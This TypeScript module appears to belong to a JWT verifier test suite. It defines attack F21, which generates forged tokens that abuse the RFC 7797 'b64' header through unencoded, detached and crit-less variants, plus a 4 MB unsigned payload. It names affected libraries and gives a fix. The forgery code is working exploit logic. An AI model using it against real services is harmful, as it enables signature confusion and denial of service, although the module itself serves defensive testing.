import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { issueForgery, issuerProof, signSegments, spellForgery } from '../issued-forgery.ts';
import type { JsonObject } from '../known-token.ts';
import { freshClaims, writeSegment } from '../unsafe-writer.ts';

/** F21. */
export const unencodedPayload: TokenAttack = {
  kind: 'token',
  id: 'F21',
  title: 'A header that says that the payload is not base64url',
  severity: 'low',
  cwe: 436,
  source: ['RFC 7797 §3', 'RFC 7797 §6', 'RFC 7797 §7', 'RFC 7519 §7.2'],
  how: 'With b64 false the payload stands as plain text, or outside of the token. JWTs must not use it. A verifier that ignores the parameter reads other bytes than one that obeys it, so one signature covers two messages; one that obeys it before anything is checked takes megabytes of payload from anybody.',
  victims: [
    { what: 'PyJWT 2.8 to 2.12', advisory: 'CVE-2026-48525' },
    { what: 'jose, jsonwebtoken and fast-jwt take b64 false without crit (measured)' },
  ],
  fix: 'Refuse every token whose header has b64, whatever its value.',
  needs: [],
  needsOne: ['signing-key', 'function'],
  expect: 'refused-in-time',
  forge: async (context) => [...hugePayload(context), ...(await signedWithout64(context))],
};

async function signedWithout64(context: ForgeContext): Promise<readonly Forgery[]> {
  if (context.signer === undefined) return [];
  const { header } = context.good;
  const [ignored, obeyed] = [{ b64: false }, { b64: false, crit: ['b64'] }];
  // A dot would end the payload, and JSON has another way to write it.
  const plain = JSON.stringify(freshClaims(context)).replaceAll('.', String.raw`\u002e`);
  const unencoded = async (variant: string, bent: JsonObject): Promise<Forgery> =>
    spellForgery(context, variant, writeSegment({ ...header, ...bent }), plain);
  return [
    await issueForgery(context, 'false-without-crit', { header: ignored }),
    await issueForgery(context, 'false-with-crit', { header: obeyed }),
    await issueForgery(context, 'true-without-crit', { header: { b64: true } }),
    await issueForgery(context, 'null', { header: { b64: null } }),
    await issueForgery(context, 'text', { header: { b64: 'false' } }),
    await issueForgery(context, 'zero', { header: { b64: 0 } }),
    await unencoded('plain-without-crit', ignored),
    await unencoded('plain-with-crit', obeyed),
    await unencoded('plain-without-b64', {}),
    await detached(context, 'detached', {}, writeSegment(freshClaims(context))),
    await detached(context, 'detached-plain', obeyed, plain),
  ];
}

/** Signed with its payload, and sent without. */
async function detached(context: ForgeContext, variant: string, bent: JsonObject, payload: string): Promise<Forgery> {
  const head = writeSegment({ ...context.good.header, ...bent });
  const whole = await signSegments(context, head, payload);
  const token = `${head}..${whole.slice(whole.lastIndexOf('.') + 1)}`;
  const proof = issuerProof(context);
  return {
    variant,
    token,
    proof: {
      kind: 'form',
      states: `its payload is left out, and the ${proof.kind} is of the whole`,
      holds: (text) => text.split('.')[1] === '',
    },
  };
}

function hugePayload({ good, reach }: ForgeContext): readonly Forgery[] {
  if (reach === 'http') return [];
  const head = writeSegment({ ...good.header, b64: false, crit: ['b64'] });
  const token = `${head}.${'A'.repeat(4_194_304)}.${good.segments[2]}`;
  return [{ variant: 'huge-and-unsigned', token, proof: { kind: 'bad-signature' } }];
}
